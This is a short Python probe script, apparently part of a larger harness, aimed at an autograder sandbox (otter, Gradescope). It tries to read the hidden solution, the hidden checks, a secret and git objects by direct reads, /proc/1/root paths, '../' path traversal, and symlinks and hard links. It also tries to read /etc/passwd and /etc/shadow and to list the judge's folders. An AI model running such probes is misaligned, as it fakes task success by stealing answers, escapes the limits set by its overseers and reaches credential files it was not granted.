"""Reads the solution, the hidden checks, the secret and git's objects from disk (otter, Gradescope's source folder)."""

import glob
import os

for key in ("solution", "hidden", "secret", "git"):
    path = FACTS[key]
    attempt(f"open {key}", lambda path=path: open(path).read())
    attempt(f"stat {key}", lambda path=path: os.stat(path))
    attempt(f"list {key}", lambda path=path: os.listdir(os.path.dirname(path)))
    attempt(f"through root {key}", lambda path=path: open("/proc/1/root" + path).read())
    attempt(f"through dots {key}", lambda path=path: open("../" * 40 + path[1:]).read())
    attempt(f"link {key}", lambda path=path: os.symlink(path, "link"))
    attempt(f"hard link {key}", lambda path=path: os.link(path, "link"))
attempt("list home", lambda: os.listdir(FACTS["home"]))
attempt("list the judge's folder", lambda: os.listdir(FACTS["cwd"]))
attempt("open a user list", lambda: open("/etc/passwd").read())
attempt("open shadow", lambda: open("/etc/shadow").read())
found = glob.glob(os.path.dirname(os.path.dirname(FACTS["folder"])) + "/**", recursive=True)
print("<glob>", "got" if any(map(os.path.exists, found)) else "nothing")
